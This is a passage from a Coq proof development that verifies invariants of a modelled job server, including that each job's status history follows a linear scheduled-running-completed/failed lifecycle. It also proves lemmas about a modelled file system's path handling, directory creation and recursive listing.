  unfold Server.dequeue. rewrite list_elem_of_filter. tauto.
Qed.

Lemma dequeue_NoDup id task l :
  NoDup l.*1 -> NoDup (Server.dequeue id task l).*1.
Proof.
  intros Hnd. apply (sublist_NoDup _ l.*1); [exact Hnd|].
  apply fmap_sublist, sublist_filter.
Qed.

Lemma dequeue_other id task l i t :
  NoDup l.*1 -> (id, task) ∈ l ->
  (i, t) ∈ Server.dequeue id task l -> (i, t) ∈ l /\ i <> id.
Proof.
  intros Hnd Hin Hit. apply dequeue_elem in Hit as [Hit Hne].
  split; [exact Hit|]. intros ->. apply Hne. f_equal.
  by apply (NoDup_fst_functional l id).
Qed.

Lemma log_status_eq id st h hs :
  hs !! id = Some h -> Server.log_status id st hs !! id = Some (h ++ [st])%list.
Proof. intros H. unfold Server.log_status. by rewrite lookup_insert_eq, H. Qed.

Lemma log_status_ne id st hs i :
  i <> id -> Server.log_status id st hs !! i = hs !! i.
Proof. intros H. unfold Server.log_status. by rewrite lookup_insert_ne. Qed.

Lemma inv_initial w : ledger_inv (Server.initial w).
Proof.
  split; cbn.
  - apply NoDup_nil_2.
  - apply NoDup_nil_2.
  - intros id task H. by apply elem_of_nil in H.
  - intros id task H. by apply elem_of_nil in H.
  - intros id _. apply lookup_empty.
  - intros id h H. by rewrite lookup_empty in H.
Qed.

(** The invariant goes through a status written for job [id], when the
    tasks queued and begun afterwards are the ones before but for [id],
    which may have become a begun one if it is running now. *)
Lemma inv_status_written id st s s' h q' b' w' :
  ledger_inv s ->
  status_written id st s s' ->
  history s !! id = Some h ->
  lifecycle (h ++ [st]) ->
  NoDup q'.*1 -> NoDup b'.*1 ->
  (forall i t, (i, t) ∈ q' -> (i, t) ∈ queued s /\ i <> id) ->
  (forall i t, (i, t) ∈ b' ->
     ((i, t) ∈ started s /\ i <> id)
     \/ (i = id /\ (h ++ [st])%list = [scheduled; running])) ->
  ledger_inv {| jobs := jobs s'; history := history s'; queued := q';
                started := b'; host := w' |}.
Proof.
  intros Hinv [(j & j' & Hj & Hst & Hjobs) (Hh & _ & _)] Hhist Hlife Hq Hb Hq' Hb'.
  split; cbn.
  - exact Hq.
  - exact Hb.
  - intros i t Hit. destruct (Hq' i t Hit) as [Hin Hne].
    rewrite Hh, log_status_ne by exact Hne. by apply (inv_queued s Hinv i t).
  - intros i t Hit. destruct (Hb' i t Hit) as [[Hin Hne]|[-> Heq]].
    + rewrite Hh, log_status_ne by exact Hne. by apply (inv_started s Hinv i t).
    + rewrite Hh, (log_status_eq id st h) by exact Hhist. by rewrite Heq.
  - intros i Hnone. rewrite Hjobs in Hnone.
    destruct (decide (i = id)) as [->|Hne].
    + by rewrite lookup_insert_eq in Hnone.
    + rewrite lookup_insert_ne in Hnone by done.
      rewrite Hh, log_status_ne by exact Hne. by apply (inv_fresh s Hinv).
  - intros i hi Hi. rewrite Hh in Hi. destruct (decide (i = id)) as [->|Hne].
    + rewrite (log_status_eq id st h) in Hi by exact Hhist. injection Hi as <-.
      split; [exact Hlife|]. exists j'. rewrite Hjobs, lookup_insert_eq.
      split; [reflexivity|]. rewrite last_snoc. by rewrite Hst.
    + rewrite log_status_ne in Hi by exact Hne.
      destruct (inv_history s Hinv i hi Hi) as [Hl (ji & Hji & Hlast)].
      split; [exact Hl|]. exists ji. rewrite Hjobs.
      by rewrite lookup_insert_ne.
Qed.

Lemma schedule_task_ok E task s id s' :
  Server.schedule_task E task s = (Ok id, s') ->
  exists j, job_status j = scheduled
    /\ jobs s' = <[id := j]> (jobs s)
    /\ history s' = Server.log_status id scheduled (history s)
    /\ queued s' = (queued s ++ [(id, task)])%list
    /\ started s' = started s.
Proof.
  unfold Server.schedule_task.
  destruct (Server.on_host _ s) as [r s1] eqn:H1.
  destruct (on_host_ledger _ _ _ _ H1) as (Hj1 & Hh1 & Hq1 & Hs1).
  destruct r as [[id0 now]|e]; [|discriminate].
  intros H. injection H as <- <-. cbn. eexists. split; [|by rewrite Hj1, Hh1, Hq1, Hs1].
  reflexivity.
Qed.

Lemma schedule_task_raises E task s e s' :
  Server.schedule_task E task s = (Raise e, s') ->
  jobs s' = jobs s /\ history s' = history s
  /\ queued s' = queued s /\ started s' = started s.
Proof.
  unfold Server.schedule_task.
  destruct (Server.on_host _ s) as [r s1] eqn:H1.
  destruct (on_host_ledger _ _ _ _ H1) as (Hj1 & Hh1 & Hq1 & Hs1).
  destruct r as [[id0 now]|e0]; [discriminate|].
  intros H. by injection H as _ <-.
Qed.

Lemma inv_same_ledger s s' :
  jobs s' = jobs s -> history s' = history s ->
  queued s' = queued s -> started s' = started s ->
  ledger_inv s -> ledger_inv s'.
Proof.
  intros Hj Hh Hq Hs [I1 I2 I3 I4 I5 I6].
  split; rewrite ?Hj, ?Hh, ?Hq, ?Hs; assumption.
Qed.

Lemma inv_step E T s s' :
  ledger_inv s -> Server.step E T s s' -> ledger_inv s'.
Proof.
  intros Hinv Hstep. destruct Hstep as
    [task s id s' Hsched Hnew
    |task s e s' Hsched
    |id task s s' Hin Hbegin
    |id task s e s1 r s' Hin Hbegin Hexc
    |id task s r s' Hin Hfin].
  - destruct (schedule_task_ok E task s id s' Hsched)
      as (j & Hst & Hjobs & Hh & Hq & Hs).
    pose proof (inv_fresh s Hinv id Hnew) as Hhnone.
    assert (Hnotq : id ∉ (queued s).*1).
    { intros Hmem. apply list_elem_of_fmap in Hmem as [[i t] [-> Hit]].
      pose proof (inv_queued s Hinv _ _ Hit) as Hsome. cbn in Hhnone. congruence. }
    assert (Hnotb : id ∉ (started s).*1).
    { intros Hmem. apply list_elem_of_fmap in Hmem as [[i t] [-> Hit]].
      pose proof (inv_started s Hinv _ _ Hit) as Hsome. cbn in Hhnone. congruence. }
    split.
    + rewrite Hq, fmap_app. apply NoDup_app. split; [apply Hinv|].
      split; [|apply NoDup_singleton].
      intros x Hx Hx'. apply list_elem_of_singleton in Hx'. cbn in Hx'. by subst.
    + rewrite Hs. apply Hinv.
    + intros i t Hit. rewrite Hq in Hit. apply elem_of_app in Hit as [Hit|Hit].
      * rewrite Hh, log_status_ne; [by apply (inv_queued s Hinv i t)|].
        intros ->. apply Hnotq. apply list_elem_of_fmap. by exists (id, t).
      * apply list_elem_of_singleton in Hit. injection Hit as -> ->.
        rewrite Hh. unfold Server.log_status. by rewrite lookup_insert_eq, Hhnone.
    + intros i t Hit. rewrite Hs in Hit.
      rewrite Hh, log_status_ne; [by apply (inv_started s Hinv i t)|].
      intros ->. apply Hnotb. apply list_elem_of_fmap. by exists (id, t).
    + intros i Hnone. rewrite Hjobs in Hnone.
      destruct (decide (i = id)) as [->|Hne].
      * by rewrite lookup_insert_eq in Hnone.
      * rewrite lookup_insert_ne in Hnone by done.
        rewrite Hh, log_status_ne by exact Hne. by apply (inv_fresh s Hinv).
    + intros i hi Hi. rewrite Hh in Hi. destruct (decide (i = id)) as [->|Hne].
      * unfold Server.log_status in Hi.
        rewrite lookup_insert_eq, Hhnone in Hi. injection Hi as <-.
        split; [by left|]. exists j. rewrite Hjobs, lookup_insert_eq.
        split; [reflexivity|]. cbn. by rewrite Hst.
      * rewrite log_status_ne in Hi by exact Hne.
        destruct (inv_history s Hinv i hi Hi) as [Hl (ji & Hji & Hlast)].
        split; [exact Hl|]. exists ji. rewrite Hjobs.
        by rewrite lookup_insert_ne.
  - destruct (schedule_task_raises E task s e s' Hsched) as (Hj & Hh & Hq & Hs).
    by apply (inv_same_ledger s s').
  - pose proof (inv_queued s Hinv id task Hin) as Hhist.
    destruct (inv_history s Hinv id _ Hhist) as [_ (j & Hj & _)].
    destruct (set_status_ok id running s j Hj) as (s2 & Heq & Hw).
    unfold Server.process_task_begin in Hbegin. rewrite Heq in Hbegin.
    injection Hbegin as <-.
    pose proof Hw as [_ (_ & Hq & Hs)].
    apply (inv_status_written id running s s2 [scheduled]); try assumption.
    + right. by left.
    + rewrite Hq. apply dequeue_NoDup, Hinv.
    + rewrite Hs, fmap_app. apply NoDup_app. split; [apply Hinv|].
      split; [|apply NoDup_singleton].
      intros x Hx Hx'. apply list_elem_of_singleton in Hx'. cbn in Hx'. subst x.
      apply list_elem_of_fmap in Hx as [[i t] [Hi Hit]]. cbn in Hi. subst i.
      pose proof (inv_started s Hinv _ _ Hit). congruence.
    + intros i t Hit. rewrite Hq in Hit.
      apply (dequeue_other id task (queued s)); [apply Hinv|exact Hin|exact Hit].
    + intros i t Hit. rewrite Hs in Hit. apply elem_of_app in Hit as [Hit|Hit].
      * left. split; [exact Hit|]. intros ->.
        pose proof (inv_started s Hinv _ _ Hit). congruence.
      * apply list_elem_of_singleton in Hit. injection Hit as -> ->. by right.
  - pose proof (inv_queued s Hinv id task Hin) as Hhist.
    destruct (inv_history s Hinv id _ Hhist) as [_ (j & Hj & _)].
    destruct (set_status_ok id running s j Hj) as (s2 & Heq & Hw).
    unfold Server.process_task_begin in Hbegin. rewrite Heq in Hbegin.
    discriminate.
  - pose proof (inv_started s Hinv id task Hin) as Hhist.
    destruct (inv_history s Hinv id _ Hhist) as [_ (j & Hj & _)].
    destruct (process_task_finish_writes E T id task s j Hj)
      as (st & s2 & Heq & Hterm & Hw).
    rewrite Heq in Hfin. injection Hfin as _ <-.
    pose proof Hw as [_ (_ & Hq & Hs)].
    apply (inv_status_written id st s s2 [scheduled; running]); try assumption.
    + destruct Hterm as [-> | ->]; right; right; [by left|by right].
    + rewrite Hq. apply Hinv.
    + rewrite Hs. apply dequeue_NoDup, Hinv.
    + intros i t Hit. rewrite Hq in Hit. split; [exact Hit|]. intros ->.
      pose proof (inv_queued s Hinv _ _ Hit). congruence.
    + intros i t Hit. rewrite Hs in Hit. left.
      apply (dequeue_other id task (started s)); [apply Hinv|exact Hin|exact Hit].
Qed.

Lemma reachable_inv E T s : Server.reachable E T s -> ledger_inv s.
Proof.
  induction 1 as [w|s s' _ IH Hstep].
  - apply inv_initial.
  - by apply (inv_step E T s s').
Qed.

(** C2. In every state the server reaches, the statuses a job's record
    was given, in order, are a prefix of scheduled, running, completed or
    of scheduled, running, failed, and the record shows the last of
    them. *)
Theorem status_history_is_linear E T s id h :
  Server.reachable E T s ->
  history s !! id = Some h ->
  (h `prefix_of` [scheduled; running; completed]
   \/ h `prefix_of` [scheduled; running; failed])
  /\ exists j, jobs s !! id = Some j /\ last h = Some (job_status j).
Proof.
  intros Hreach Hh.
  destruct (inv_history s (reachable_inv E T s Hreach) id h Hh) as [Hl Hj].
  split; [by apply lifecycle_prefix|exact Hj].
Qed.

(** One request served from beginning to end is a run of the server. *)
Lemma served_reachable :
  Server.reachable (Demo.env_exits 0) Demo.texts served_3.
Proof.
  apply (Server.reachable_step _ _ served_2).
  apply (Server.reachable_step _ _ served_1).
  apply (Server.reachable_step _ _ served_0).
  - apply Server.reachable_initial.
  - apply (Server.step_schedule _ _ "build a thing" served_0 "0000-0" served_1).
    + vm_compute. reflexivity.
    + reflexivity.
  - apply (Server.step_begin _ _ "0000-0" "build a thing" served_1
             (snd (Server.process_task_begin "0000-0" served_1))).
    + replace (queued served_1) with [("0000-0", "build a thing")]
        by (vm_compute; reflexivity).
      apply list_elem_of_here.
    + vm_compute. reflexivity.
  - apply (Server.step_finish _ _ "0000-0" "build a thing" served_2 (Ok tt)
             (snd (Server.process_task_finish (Demo.env_exits 0) Demo.texts
                     "0000-0" "build a thing" served_2))).
    + replace (started served_2) with [("0000-0", "build a thing")]
        by (vm_compute; reflexivity).
      apply list_elem_of_here.
    + vm_compute. reflexivity.
Qed.

Lemma status_history_is_linear_witness :
  history served_3 !! "0000-0" = Some [scheduled; running; completed]
  /\ ([scheduled; running; completed] `prefix_of` [scheduled; running; completed]
      \/ [scheduled; running; completed] `prefix_of` [scheduled; running; failed])
  /\ exists j, jobs served_3 !! "0000-0" = Some j
               /\ last [scheduled; running; completed] = Some (job_status j).
Proof.
  assert (Hh : history served_3 !! "0000-0" = Some [scheduled; running; completed]).
  { vm_compute. reflexivity. }
  split; [exact Hh|].
  exact (status_history_is_linear (Demo.env_exits 0) Demo.texts served_3
           "0000-0" [scheduled; running; completed] served_reachable Hh).
Defined.

(** ** Publishing *)

(** *** Strings and paths *)

Lemma split_on_from_no_sep sep s : forall cur,
  PyStr.has_char sep s = false ->
  PyStr.split_on_from sep cur s
  = [string_of_list_ascii (rev cur ++ list_ascii_of_string s)].
Proof.
  induction s as [|c s IH]; intros cur Hno.
  - cbn. by rewrite app_nil_r.
  - cbn in *. apply orb_false_elim in Hno as [Hc Hs]. rewrite Hc.
    rewrite IH by exact Hs. cbn. by rewrite <- app_assoc.
Qed.

Lemma of_str_entry_name n :
  FS.is_entry_name n = true ->
  Path.of_str n = {| p_anchor := ""; p_parts := [n] |}.
Proof.
  unfold FS.is_entry_name. intros H.
  apply andb_prop in H as [H _].
  apply andb_prop in H as [H Hslash]. apply andb_prop in H as [H Hdd].
  apply andb_prop in H as [Hempty Hdot].
  apply negb_true_iff in Hslash.
  unfold Path.of_str. f_equal.
  - destruct n as [|c n]; [reflexivity|]. cbn in *.
    apply orb_false_elim in Hslash as [-> _]. reflexivity.
  - unfold PyStr.split_on. rewrite split_on_from_no_sep by exact Hslash.
    cbn [rev app]. rewrite string_of_list_ascii_of_string.
    cbn. unfold Path.is_component. by rewrite Hempty, Hdot.
Qed.

Lemma strip_app pre l : Path.strip pre (pre ++ l) = Some l.
Proof.
  induction pre as [|a pre IH]; [by destruct l|].
  cbn. by rewrite String.eqb_refl.
Qed.

Lemma strip_Some pre : forall l rel,
  Path.strip pre l = Some rel -> l = (pre ++ rel)%list.
Proof.
  induction pre as [|a pre IH]; intros l rel H.
  - destruct l; cbn in H; by injection H as <-.
  - destruct l as [|b l]; [discriminate|]. cbn in H.
    destruct (String.eqb a b) eqn:Hab; [|discriminate].
    apply String.eqb_eq in Hab as ->. cbn. f_equal. by apply IH.
Qed.

(** *** Walking *)

Lemma walk_app fs f names1 : forall names2 start loc,
  FS.walk fs f start (names1 ++ names2) = Ok loc ->
  exists mid, FS.walk fs f start names1 = Ok mid
              /\ FS.walk fs f mid names2 = Ok loc.
Proof.
  induction names1 as [|n names1 IH]; intros names2 start loc H.
  - exists start. split; [reflexivity|exact H].
  - cbn [app FS.walk] in *.
    destruct (FS.stat fs start) as [[c| |r0 d0]|]; try discriminate. by apply IH.
Qed.

Lemma walk_app_2 fs f names1 : forall names2 start mid,
  FS.walk fs f start names1 = Ok mid ->
  FS.walk fs f start (names1 ++ names2) = FS.walk fs f mid names2.
Proof.
  induction names1 as [|n names1 IH]; intros names2 start mid H.
  - cbn in H. by injection H as ->.
  - cbn [app FS.walk] in *.
    destruct (FS.stat fs start) as [[c| |r0 d0]|]; try discriminate. by apply IH.
Qed.

(** The message of a failed walk aside, a walk does not depend on the
    file name it reports. *)
Lemma walk_name fs f g names : forall start loc,
  FS.walk fs f start names = Ok loc -> FS.walk fs g start names = Ok loc.
Proof.
  induction names as [|n names IH]; intros start loc H; [exact H|].
  cbn [FS.walk] in *.
  destruct (FS.stat fs start) as [[c| |r0 d0]|]; try discriminate. by apply IH.
Qed.

Lemma enter_entry_name loc n :
  FS.is_entry_name n = true -> FS.enter loc n = (loc ++ [n])%list.
Proof.
  unfold FS.is_entry_name, FS.enter. intros H.
  apply andb_prop in H as [H _].
  apply andb_prop in H as [H _]. apply andb_prop in H as [_ Hdd].
  apply negb_true_iff in Hdd. by rewrite Hdd.
Qed.

(** Down through entry names, a walk ends where the names say. *)
Lemma walk_entry_names fs f names : forall start loc,
  forallb FS.is_entry_name names = true ->
  FS.walk fs f start names = Ok loc -> loc = (start ++ names)%list.
Proof.
  induction names as [|n names IH]; intros start loc Hnames H.
  - cbn in H. injection H as <-. by rewrite app_nil_r.
  - cbn [forallb] in Hnames. apply andb_prop in Hnames as [Hn Hnames].
    cbn [FS.walk] in H.
    destruct (FS.stat fs start) as [[c| |r0 d0]|]; try discriminate.
    rewrite enter_entry_name in H by exact Hn.
    rewrite (IH _ _ Hnames H). by rewrite <- app_assoc.
Qed.

(** A walk that goes on below a location found it to be a directory. *)
Lemma walk_through_dir fs f names n : forall start loc,
  FS.walk fs f start (names ++ [n]) = Ok loc ->
  exists mid, FS.walk fs f start names = Ok mid /\ FS.stat fs mid = Some Dir.
Proof.
  intros start loc H. apply walk_app in H as (mid & Hmid & Hlast).
  exists mid. split; [exact Hmid|]. cbn in Hlast.
  by destruct (FS.stat fs mid) as [[c| |r0 d0]|].
Qed.

(** *** Growing file systems *)

Lemma grows_refl fs : grows fs fs.
Proof. intros loc [c| |r d] H; eauto. Qed.

Lemma grows_trans fs1 fs2 fs3 : grows fs1 fs2 -> grows fs2 fs3 -> grows fs1 fs3.
Proof.
  intros H12 H23 loc n H. specialize (H12 loc n H). destruct n as [c| |r d].
  - destruct H12 as [c' H12]. exact (H23 loc (File c') H12).
  - exact (H23 loc Dir H12).
  - exact (H23 loc (Special r d) H12).
Qed.

Lemma grows_dirs_kept fs fs' : grows fs fs' -> dirs_kept fs fs'.
Proof.
  intros Hg [|a l] H; [reflexivity|]. cbn [FS.stat] in *. exact (Hg _ Dir H).
Qed.

Lemma adds_dirs_refl fs : adds_dirs fs fs.
Proof. intros loc. by left. Qed.

Lemma adds_dirs_trans fs1 fs2 fs3 :
  adds_dirs fs1 fs2 -> adds_dirs fs2 fs3 -> adds_dirs fs1 fs3.
Proof.
  intros H12 H23 loc. destruct (H12 loc) as [E12|[N1 D2]];
    destruct (H23 loc) as [E23|[N2 D3]].
  - left. congruence.
  - right. split; congruence.
  - right. split; congruence.
  - congruence.
Qed.

Lemma adds_dirs_grows fs fs' : adds_dirs fs fs' -> grows fs fs'.
Proof.
  intros Ha loc n H. destruct (Ha loc) as [E|[N _]]; [|congruence].
  rewrite E, H. destruct n; eauto.
Qed.

Lemma adds_dirs_insert fs loc :
  fs !! loc = None -> adds_dirs fs (<[loc := Dir]> fs).
Proof.
  intros Hnone loc'. destruct (decide (loc = loc')) as [<-|Hne].
  - right. by rewrite lookup_insert_eq.
  - left. by rewrite lookup_insert_ne.
Qed.

Lemma grows_insert_file fs loc c :
  FS.stat fs loc <> Some Dir ->
  (forall r d, FS.stat fs loc <> Some (Special r d)) ->
  grows fs (<[loc := File c]> fs).
Proof.
  intros Hnd Hns loc' n H. destruct (decide (loc = loc')) as [<-|Hne].
  - rewrite lookup_insert_eq. destruct n as [c0| |r d]; [eauto| |].
    + destruct Hnd. destruct loc; [reflexivity|exact H].
    + destruct loc; [by destruct Hnd|]. destruct (Hns r d). exact H.
  - rewrite lookup_insert_ne by done. rewrite H. destruct n; eauto.
Qed.

Lemma stat_lookup fs loc n : fs !! loc = Some n -> loc <> [] -> FS.stat fs loc = Some n.
Proof. intros H Hne. destruct loc; [done|exact H]. Qed.

Lemma locate_grows E p fs fs' loc :
  grows fs fs' -> FS.locate E p fs = Ok loc -> FS.locate E p fs' = Ok loc.
Proof. intros Hg. apply locate_dirs_kept. by apply grows_dirs_kept. Qed.

Lemma is_dir_grows E p fs fs' :
  grows fs fs' -> FS.is_dir E p fs = true -> FS.is_dir E p fs' = true.
Proof.
  intros Hg. unfold FS.is_dir, FS.is_dir_at.
  destruct (FS.locate E p fs) as [loc|e] eqn:Hloc; [|discriminate].
  rewrite (locate_grows E p fs fs' loc Hg Hloc).
  destruct (FS.stat fs loc) as [[c| |r0 d0]|] eqn:Hs; try discriminate.
  by rewrite (grows_dirs_kept fs fs' Hg loc Hs).
Qed.

(** *** Making directories *)

Lemma os_mkdir_ok E p fs fs' :
  FS.os_mkdir E p fs = Ok fs' ->
  adds_dirs fs fs' /\ FS.is_dir E p fs' = true.
Proof.
  unfold FS.os_mkdir. destruct (FS.locate E p fs) as [loc|e] eqn:Hloc; [|discriminate].
  destruct (FS.stat fs loc) as [n|] eqn:Hs; [discriminate|].
  intros H. injection H as <-.
  assert (Hnone : fs !! loc = None) by (destruct loc; [discriminate|exact Hs]).
  assert (Hne : loc <> []) by (intros ->; discriminate).
  split; [by apply adds_dirs_insert|].
  unfold FS.is_dir, FS.is_dir_at.
  rewrite (locate_grows E p fs _ loc
             (adds_dirs_grows _ _ (adds_dirs_insert fs loc Hnone)) Hloc).
  by rewrite stat_insert_eq.
Qed.

Lemma os_mkdir_existing E p fs :
  FS.is_dir E p fs = true ->
  FS.os_mkdir E p fs = Raise (FileExistsError (Path.to_str p)).
Proof.
  unfold FS.is_dir, FS.is_dir_at, FS.os_mkdir.
  destruct (FS.locate E p fs) as [loc|e]; [|discriminate].
  by destruct (FS.stat fs loc) as [[c| |r0 d0]|].
Qed.

Lemma mkdir1_ok E p fs fs' :
  FS.mkdir1 E true p fs = Ok fs' ->
  adds_dirs fs fs' /\ FS.is_dir E p fs' = true.
Proof.
  unfold FS.mkdir1. destruct (FS.os_mkdir E p fs) as [fs1|e] eqn:Hos.
  - intros H. injection H as <-. by apply (os_mkdir_ok E p fs).
  - intros H. assert (Hdir : FS.is_dir E p fs = true /\ fs' = fs).
    { destruct e; try discriminate;
        (destruct (FS.is_dir E p fs); [|discriminate]);
        by injection H as <-. }
    destruct Hdir as [Hdir ->]. split; [apply adds_dirs_refl|exact Hdir].
Qed.

Lemma mkdir1_existing E p fs :
  FS.is_dir E p fs = true -> FS.mkdir1 E true p fs = Ok fs.
Proof.
  intros Hdir. unfold FS.mkdir1.
  rewrite (os_mkdir_existing E p fs Hdir). by rewrite Hdir.
Qed.

Lemma mkdir_parents_ok E anchor rparts : forall fs fs',
  FS.mkdir_parents E true anchor rparts fs = Ok fs' ->
  adds_dirs fs fs'
  /\ FS.is_dir E {| p_anchor := anchor; p_parts := rev rparts |} fs' = true.
Proof.
  induction rparts as [|n rparts IH]; intros fs fs' H; cbn [FS.mkdir_parents] in H.
  - destruct (FS.os_mkdir E _ fs) as [fs1|e] eqn:Hos.
    + injection H as <-. by apply (os_mkdir_ok E _ fs).
    + assert (Hdir : FS.is_dir E {| p_anchor := anchor; p_parts := rev [] |} fs
                     = true /\ fs' = fs).
      { destruct e; try discriminate;
          (destruct (FS.is_dir E _ fs); [|discriminate]);
          by injection H as <-. }
      destruct Hdir as [Hdir ->]. split; [apply adds_dirs_refl|exact Hdir].
  - destruct (FS.os_mkdir E _ fs) as [fs1|e] eqn:Hos.
    + injection H as <-. by apply (os_mkdir_ok E _ fs).
    + destruct e;
        try (destruct (FS.is_dir E _ fs) eqn:Hdir; [|discriminate];
             injection H as <-; split; [apply adds_dirs_refl|exact Hdir]).
      destruct (FS.mkdir_parents E true anchor rparts fs) as [fs1|e1] eqn:Hpar;
        [|discriminate].
      destruct (IH fs fs1 Hpar) as [Hadd1 _].
      destruct (mkdir1_ok E _ fs1 fs' H) as [Hadd2 Hdir].
      split; [by apply (adds_dirs_trans fs fs1 fs')|exact Hdir].
Qed.

Lemma mkdir_parents_existing E anchor rparts fs :
  FS.is_dir E {| p_anchor := anchor; p_parts := rev rparts |} fs = true ->
  FS.mkdir_parents E true anchor rparts fs = Ok fs.
Proof.
  intros Hdir. destruct rparts as [|n rparts]; cbn [FS.mkdir_parents];
    rewrite (os_mkdir_existing E _ fs Hdir); by rewrite Hdir.
Qed.

Lemma path_eta p : {| p_anchor := p_anchor p; p_parts := p_parts p |} = p.
Proof. by destruct p. Qed.

Lemma mkdir_ok E parents p fs fs' :
  FS.mkdir E parents true p fs = Ok fs' ->
  adds_dirs fs fs' /\ FS.is_dir E p fs' = true.
Proof.
  unfold FS.mkdir. destruct parents.
  - intros H. apply mkdir_parents_ok in H. by rewrite rev_involutive, path_eta in H.
  - apply mkdir1_ok.
Qed.

Lemma mkdir_existing E parents p fs :
  FS.is_dir E p fs = true -> FS.mkdir E parents true p fs = Ok fs.
Proof.
  intros Hdir. unfold FS.mkdir. destruct parents.
  - apply mkdir_parents_existing. by rewrite rev_involutive, path_eta.
  - by apply mkdir1_existing.
Qed.

(** *** Listing the source *)

Lemma elem_of_List_filter {A} (f : A -> bool) (l : list A) x :
  x ∈ List.filter f l <-> x ∈ l /\ f x = true.
Proof. rewrite !list_elem_of_In. apply filter_In. Qed.

Lemma NoDup_List_filter {A} (f : A -> bool) (l : list A) :
  NoDup l -> NoDup (List.filter f l).
Proof.
  induction l as [|x l IH]; intros Hnd; [exact Hnd|].
  apply NoDup_cons in Hnd as [Hx Hnd]. cbn. destruct (f x).
  - apply NoDup_cons. split; [|by apply IH].
    intros Hin. apply elem_of_List_filter in Hin as [Hin _]. by apply Hx.
  - by apply IH.
Qed.

Lemma NoDup_omap_strip {V} pre (l : list (list string * V)) :
  NoDup l.*1 -> NoDup (omap (fun kv => Path.strip pre (fst kv)) l).
Proof.
  induction l as [|[k v] l IH]; intros Hnd; [apply NoDup_nil_2|].
  rewrite fmap_cons in Hnd. apply NoDup_cons in Hnd as [Hk Hnd]. cbn.
  destruct (Path.strip pre k) as [rel|] eqn:Hrel; [|by apply IH].
  apply NoDup_cons. split; [|by apply IH].
  intros Hin. apply list_elem_of_omap in Hin as ([k' v'] & Hin & Hrel').
  cbn in Hrel'. apply strip_Some in Hrel, Hrel'. subst k k'.
  apply Hk. apply list_elem_of_fmap. by exists (pre ++ rel, v')%list.
Qed.

Lemma elem_of_below fs loc rel :
  rel ∈ FS.below fs loc
  <-> rel <> [] /\ forallb FS.is_entry_name rel = true
      /\ FS.walk fs "" loc rel = Ok (loc ++ rel)%list
      /\ is_Some (fs !! (loc ++ rel)%list).
Proof.
  unfold FS.below. rewrite elem_of_List_filter, list_elem_of_omap. split.
  - intros [([k v] & Hin & Hstrip) Hok]. cbn in Hstrip.
    apply strip_Some in Hstrip as ->. apply elem_of_map_to_list in Hin.
    destruct rel as [|n rel]; [discriminate|].
    apply andb_prop in Hok as [Hnames Hwalk].
    split; [done|]. split; [exact Hnames|]. split; [|by exists v].
    destruct (FS.walk fs "" loc (n :: rel)) as [l|e] eqn:Hw; [|discriminate].
    by rewrite (walk_entry_names fs "" (n :: rel) loc l Hnames Hw).
  - intros (Hne & Hnames & Hwalk & [v Hv]). split.
    + exists ((loc ++ rel)%list, v). split; [by apply elem_of_map_to_list|].
      cbn. apply strip_app.
    + destruct rel as [|n rel]; [done|]. by rewrite Hnames, Hwalk.
Qed.

Lemma NoDup_below fs loc : NoDup (FS.below fs loc).
Proof.
  unfold FS.below. apply NoDup_List_filter, NoDup_omap_strip.
  apply NoDup_fst_map_to_list.
Qed.

Lemma entry_of_inj src : Inj eq eq (entry_of src).
Proof.
  intros r1 r2 H. unfold entry_of in H. injection H as H.
  by apply app_inv_head in H.
Qed.

Lemma is_dir_located E p fs :
  FS.is_dir E p fs = true ->
  exists loc, FS.locate E p fs = Ok loc /\ FS.stat fs loc = Some Dir.
Proof.
  unfold FS.is_dir, FS.is_dir_at.
  destruct (FS.locate E p fs) as [loc|e]; [|discriminate].
  destruct (FS.stat fs loc) as [[c| |r0 d0]|] eqn:Hs; try discriminate. eauto.
Qed.

Lemma elem_of_glob_rec E src fs item :
  item ∈ FS.glob_rec E src fs
  <-> FS.is_dir E src fs = true
      /\ exists S rel, FS.locate E src fs = Ok S /\ rel ∈ FS.below fs S
                       /\ item = entry_of src rel.
Proof.
  unfold FS.glob_rec. destruct (FS.is_dir E src fs) eqn:Hdir.
  - destruct (is_dir_located E src fs Hdir) as (S & HS & _). rewrite HS.
    change (fun rel => {| p_anchor := p_anchor src; p_parts := p_parts src ++ rel |})
      with (entry_of src).
    rewrite list_elem_of_fmap. split.
    + intros (rel & -> & Hrel). split; [reflexivity|]. by exists S, rel.
    + intros (_ & S' & rel & HS' & Hrel & ->). injection HS' as <-.
      by exists rel.
  - split; [intros H; by apply elem_of_nil in H|]. by intros [? _].
Qed.

Lemma NoDup_glob_rec E src fs : NoDup (FS.glob_rec E src fs).
Proof.
  unfold FS.glob_rec. destruct (FS.is_dir E src fs); [|apply NoDup_nil_2].
  destruct (FS.locate E src fs) as [S|e]; [|apply NoDup_nil_2].
  apply (NoDup_fmap_2 (entry_of src) (Inj0:=entry_of_inj src)), NoDup_below.
Qed.

Lemma walk_grows fs fs' f names start loc :
  grows fs fs' ->
  FS.walk fs f start names = Ok loc -> FS.walk fs' f start names = Ok loc.
Proof. intros Hg. apply walk_dirs_kept. by apply grows_dirs_kept. Qed.

Lemma grows_is_Some fs fs' loc :
  grows fs fs' -> is_Some (fs !! loc) -> is_Some (fs' !! loc).
Proof.
  intros Hg [n Hn]. specialize (Hg loc n Hn). destruct n as [c| |r d].
  - destruct Hg as [c' Hc']. by exists (File c').
  - by exists Dir.
  - by exists (Special r d).
Qed.

(** What walking the source lists stays listed when the file system
    grows. *)
Lemma glob_rec_grows E src fs fs' item :
  grows fs fs' ->
  item ∈ FS.glob_rec E src fs -> item ∈ FS.glob_rec E src fs'.
Proof.
  intros Hg. rewrite !elem_of_glob_rec.
  intros (Hdir & S & rel & HS & Hrel & ->).
  split; [by apply (is_dir_grows E src fs)|].
  exists S, rel. split; [by apply (locate_grows E src fs)|]. split; [|reflexivity].
  apply elem_of_below in Hrel as (Hne & Hnames & Hwalk & Hsome).
  apply elem_of_below. split; [exact Hne|]. split; [exact Hnames|].
  split; [by apply (walk_grows fs)|by apply (grows_is_Some fs)].
Qed.

(** *** Entries of the source and their targets *)

Lemma List_last_app {A} (l l' : list A) d :
  l' <> [] -> List.last (l ++ l') d = List.last l' d.
Proof.
  intros Hne. induction l as [|x l IH]; [reflexivity|].
  cbn [app]. rewrite <- IH. cbn. destruct (l ++ l')%list eqn:Happ; [|reflexivity].
  apply app_eq_nil in Happ as [_ ->]. done.
Qed.

Lemma List_last_In {A} (l : list A) d : l <> [] -> In (List.last l d) l.
Proof.
  induction l as [|x l IH]; [done|]. intros _.
  destruct l as [|y l]; [by left|]. right. by apply IH.
Qed.

Section Entries.
Context (E : env) (src dst : ppath) (S D : list string).

Lemma names_ok_entry_names rel :
